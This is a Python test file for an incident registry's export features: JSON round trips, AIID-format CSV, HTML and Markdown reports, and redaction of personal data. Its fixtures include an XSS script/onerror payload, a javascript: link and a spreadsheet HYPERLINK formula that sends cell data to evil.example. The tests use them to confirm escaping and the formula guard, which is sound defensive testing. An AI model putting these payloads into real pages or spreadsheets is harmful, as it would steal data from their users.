"""Export round trips, AIID CSV, escaping of hostile text in every rendering, public redaction."""

import csv
import io
import json
import re

import pytest

from genguard.errors import InputError
from genguard.incidents import export, registry
from genguard.incidents.schema import parse_new_record
from genguard.store import open_store

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _full_record(store, clock):  # type: ignore[no-untyped-def]
    rec = registry.create(store, parse_new_record({
        "kind": "incident", "title": f"Leak {XSS}", "description": f"Line one **bold** [link](javascript:alert(1))\n{XSS}\n"
        "Contact me at wang.wu@example.com or 13812345678.", "affected": FORMULA, "risk_codes": ["S4", "A4.4"],
        "severity": "critical", "serious_criteria": ["fundamental_rights_infringement"],
        "reporter": {"name": "王五", "contact": "wang.wu@example.com"},
        "evidence": [{"kind": "file", "ref": "dump.csv", "sha256": "a" * 64}, {"kind": "audit_log", "ref": "aud-secret-9"}],
        "owner": "sec-oncall"}), actor="alice", clock=clock)
    clock.advance(hours=2)
    registry.move(store, rec.ref, "triaged", actor="bob", note=f"note {XSS}", clock=clock)
    return registry.get(store, rec.ref)


def test_json_round_trip_across_stores(store, clock, tmp_path) -> None:  # type: ignore[no-untyped-def]
    rec = _full_record(store, clock)
    text = export.to_json([rec], include_reporter=True)
    other = open_store(f"sqlite:///{tmp_path / 'other.db'}")
    assert export.import_json(other, text) == [rec.ref]
    assert export.import_json(other, text) == []  # idempotent
    assert registry.to_dict(registry.get(other, rec.ref)) == registry.to_dict(rec)
    # and back into the original backend (PostgreSQL when store_url is postgres)
    registry_json = export.to_json([registry.get(other, rec.ref)], include_reporter=True)
    assert json.loads(registry_json) == json.loads(text)
    other.dispose()


@pytest.mark.parametrize(("text", "problem"), [("{", "not valid JSON"), ('{"records": []}', "not a genguard incidents export"),
                                               ('{"genguard_incidents": 1, "records": [{"ref": "X"}]}', r"records\[0\] \(X\): kind: Field required"),
                                               ('{"genguard_incidents": 1, "records": [7]}', r"records\[0\]: not a JSON object")])
def test_import_rejects_malformed(sqlite_store, text, problem) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(InputError, match=problem):
        export.import_json(sqlite_store, text)


def test_import_validates_every_record_and_imports_nothing_when_one_is_bad(sqlite_store, clock) -> None:  # type: ignore[no-untyped-def]
    good = registry.create(sqlite_store, parse_new_record({"kind": "complaint", "title": "good record"}), clock=clock)
    data = json.loads(export.to_json([good]))
    data["records"][0]["ref"] = "CMP-20260302-00000001"
    zombie = {**data["records"][0], "ref": "CMP-20990101-aaaaaaaa", "status": "zombie", "severity": "ultra"}
    bad_event = {**data["records"][0], "ref": "CMP-20990101-bbbbbbbb"}
    bad_event["timeline"] = [{**bad_event["timeline"][0], "to": "limbo"}]
    data["records"] += [zombie, bad_event]
    with pytest.raises(InputError) as err:
        export.import_json(sqlite_store, json.dumps(data), where="f.json")
    msg = str(err.value)
    assert "2 of 3 record(s) invalid, nothing imported" in msg
    assert "records[1] (CMP-20990101-aaaaaaaa): severity:" in msg and "status: Input should be 'received'" in msg
    assert "records[2] (CMP-20990101-bbbbbbbb): timeline.0.to:" in msg
    assert [r.ref for r in registry.list_records(sqlite_store)] == [good.ref]  # the valid record was not imported either


@pytest.mark.parametrize(("field", "value", "problem"), [
    ("title", "\u200b\u200b\u200b", "title: Value error, needs at least 3"), ("risk_codes", ["Z9"], "unknown risk code 'Z9'"),
    ("received_at", "2026-03-02T09:00:00", "received_at needs a timezone"), ("ref", "../x", "ref: String should match"),
    ("unknown", 1, "unknown: Extra inputs are not permitted"),
])
def test_import_applies_the_rules_of_incidents_new(sqlite_store, clock, field, value, problem) -> None:  # type: ignore[no-untyped-def]
    rec = registry.create(sqlite_store, parse_new_record({"kind": "complaint", "title": "good record"}), clock=clock)
    data = json.loads(export.to_json([rec]))
    data["records"][0][field] = value
    other = open_store("sqlite://")
    with pytest.raises(InputError, match=re.escape(problem)):
        export.import_json(other, json.dumps(data))
    other.dispose()


def test_aiid_csv_round_trip_and_formula_guard(sqlite_store, clock) -> None:  # type: ignore[no-untyped-def]
    rec = _full_record(sqlite_store, clock)
    plain = registry.create(sqlite_store, parse_new_record({"kind": "complaint", "title": "-5 stars @all +1", "language": "en"}),
                            clock=clock)
    text = export.to_aiid_csv([rec, plain], redact=False, now=clock.now)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == export.AIID_FIELDS
    # no cell may start with a spreadsheet formula trigger
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    back = export.read_aiid_csv(text)
    assert back[0]["implicated_systems"] == FORMULA and back[1]["title"] == "-5 stars @all +1"
    assert back[0]["title"] == rec.title and back[0]["text"] == rec.description
    assert back[0]["authors"] == "王五" and back[1]["authors"] == "Anonymous"
    assert f"genguard:{rec.ref}" in back[0]["tags"] and "risk:S4" in back[0]["tags"] and "severity:critical" in back[0]["tags"]
    assert back[0]["date_published"] == "2026-03-02" and back[0]["url"] == f"urn:genguard:{rec.ref}"
    # redacted CSV: anonymous, contact details masked
    red = export.read_aiid_csv(export.to_aiid_csv([rec], redact=True, now=clock.now))[0]
    assert red["authors"] == "Anonymous" and "wang.wu@example.com" not in red["text"] and "13812345678" not in red["text"]


@pytest.mark.parametrize("value", ["=1+1", "'=1", "''=x", "'plain", "plain", "－1", "\t=x", "@SUM(A1)"])
def test_csv_guard_is_reversible(value: str) -> None:
    guarded = export.csv_guard(value)
    assert not guarded.startswith(("=", "+", "-", "@", "\t", "\uff0d"))
    assert export.csv_unguard(guarded) == value


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_html_report_escapes_everything(sqlite_store, clock, lang) -> None:  # type: ignore[no-untyped-def]
    rec = _full_record(sqlite_store, clock)
    html = export.to_html(rec, lang=lang, now=clock.now)
    assert "<script>" not in html and "<img" not in html and "onerror=alert(1)>" not in html
    assert "&lt;script&gt;" in html
    assert "javascript:" not in re.findall(r'href="([^"]*)"', html).__str__()
    assert ("严重事件判定" if lang == "zh" else "Serious-incident criteria") in html
    assert ("侵犯基本权利" if lang == "zh" else "Infringement of fundamental rights") in html
    assert "王五" in html and "sec-oncall" in html  # internal report keeps reporter and owner


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_markdown_report_escapes_html_and_markdown(sqlite_store, clock, lang) -> None:  # type: ignore[no-untyped-def]
    rec = _full_record(sqlite_store, clock)
    md = export.to_markdown(rec, lang=lang, now=clock.now)
    assert "<script>" not in md and "<img" not in md
    assert "&lt;script&gt;" in md
    assert "**bold**" not in md and r"\*\*bold\*\*" in md
    assert "[link](javascript" not in md
    # rendered by a real Markdown renderer, no tag survives
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
    assert "<script" not in rendered and "<img" not in rendered and 'href="javascript' not in rendered
    assert ("安全事件报告" if lang == "zh" else "Incident report") in md


def test_public_summary_redacts_people_and_internals(sqlite_store, clock) -> None:  # type: ignore[no-untyped-def]
    rec = _full_record(sqlite_store, clock)
    for text in (export.to_markdown(rec, redact=True, now=clock.now), export.to_html(rec, redact=True, now=clock.now),
                 export.to_markdown(rec, lang="zh", redact=True, now=clock.now)):
        for secret in ("王五", "wang.wu@example.com", "wang\\.wu", "13812345678", "sec-oncall", "aud-secret-9", "alice", "bob"):
            assert secret not in text, secret
        assert "a" * 64 in text  # file hashes stay: they are the public evidence anchor
    assert "Public summary" in export.to_markdown(rec, redact=True, now=clock.now)
    assert "公开摘要" in export.to_html(rec, lang="zh", redact=True, now=clock.now)


# ---------------------------------------------------------------- one redaction for every format (QA defects 1 and 7)

PRIVATE = ("13812345678", "11010519491231002X", "a@b.com", "张工", "王五", "w@x.org", "aud-17", "run-9", "内部备注", "alice",
           "bob", "via cli")


def _private_record(store, clock):  # type: ignore[no-untyped-def]
    rec = registry.create(store, parse_new_record({
        "kind": "vulnerability", "category": "jailbreak", "title": "越狱漏洞，张工已知",
        "description": "联系 13812345678 身份证 11010519491231002X 邮箱 a@b.com", "owner": "张工",
        "reporter": {"name": "王五", "contact": "w@x.org"},
        "evidence": [{"kind": "audit_log", "ref": "aud-17"}, {"kind": "assessment_run", "ref": "run-9", "note": "内部备注"},
                     {"kind": "file", "ref": "shot.png", "sha256": "b" * 64}]}), actor="alice", channel="cli", clock=clock)
    registry.move(store, rec.ref, "triaged", actor="bob", note="内部备注", clock=clock)
    registry.assign(store, rec.ref, "张工", actor="bob", clock=clock)
    registry.add_note(store, rec.ref, "内部备注 13812345678", actor="bob", clock=clock)
    return registry.get(store, rec.ref)


def _redacted_renderings(rec, clock) -> dict[str, str]:  # type: ignore[no-untyped-def]
    return {"json": export.to_json([rec], include_reporter=True, redact=True),
            "csv": export.to_aiid_csv([rec], redact=True, now=clock.now),
            "md": export.to_markdown(rec, redact=True, now=clock.now),
            "md-zh": export.to_markdown(rec, lang="zh", redact=True, now=clock.now),
            "html": export.to_html(rec, redact=True, now=clock.now)}


def test_every_redacted_format_hides_the_same_things(sqlite_store, clock) -> None:  # type: ignore[no-untyped-def]
    rec = _private_record(sqlite_store, clock)
    for fmt, text in _redacted_renderings(rec, clock).items():
        for secret in PRIVATE:
            assert secret not in text, (fmt, secret)
        assert fmt == "csv" or "b" * 64 in text, fmt  # the file hash stays as the public evidence anchor (CSV has no evidence)
    data = json.loads(export.to_json([rec], redact=True))["records"][0]
    assert data["owner"] is None and data["reporter"] is None and data["extra"] == {}
    assert {e["actor"] for e in data["timeline"]} == {""} and {e["note"] for e in data["timeline"]} == {""}
    assert [e["ref"] for e in data["evidence"]] == ["[REDACTED]", "[REDACTED]", "shot.png"]
    assert "[CN_MOBILE]" in data["description"] and "[CN_ID_CARD]" in data["description"] and "[EMAIL]" in data["description"]


def test_redacted_json_is_still_importable(sqlite_store, clock, tmp_path) -> None:  # type: ignore[no-untyped-def]
    rec = _private_record(sqlite_store, clock)
    other = open_store(f"sqlite:///{tmp_path / 'public.db'}")
    assert export.import_json(other, export.to_json([rec], redact=True)) == [rec.ref]
    other.dispose()


def test_mask_precision_ipv6_dates_versions() -> None:
    from genguard.incidents.redaction import mask_text

    masked = mask_text("2026-12-01 发生，攻击者IP 2001:db8::1 与 10.0.0.1，模型 v1.2.3.4，电话 010-62345678")
    assert "2001:db8::1" not in masked and "10.0.0.1" not in masked and "010-62345678" not in masked
    assert masked.startswith("2026-12-01 发生") and "v1.2.3.4" in masked
    assert mask_text("released 2.0.1 on 2026/12/01 12:30, build 20261201") == "released 2.0.1 on 2026/12/01 12:30, build 20261201"


def test_mask_text_names_and_genguard_keys() -> None:
    from genguard.gateway.keys import KEY_PREFIX, generate_key
    from genguard.incidents.redaction import mask_text

    key = generate_key()
    assert KEY_PREFIX == "gg-"  # the pattern in redaction.py follows the gateway's key format
    assert mask_text(f"leaked {key} here") == "leaked [API_KEY] here"
    assert mask_text("王五说 王五丰", ["王五"]) == "[REDACTED]说 [REDACTED]丰"
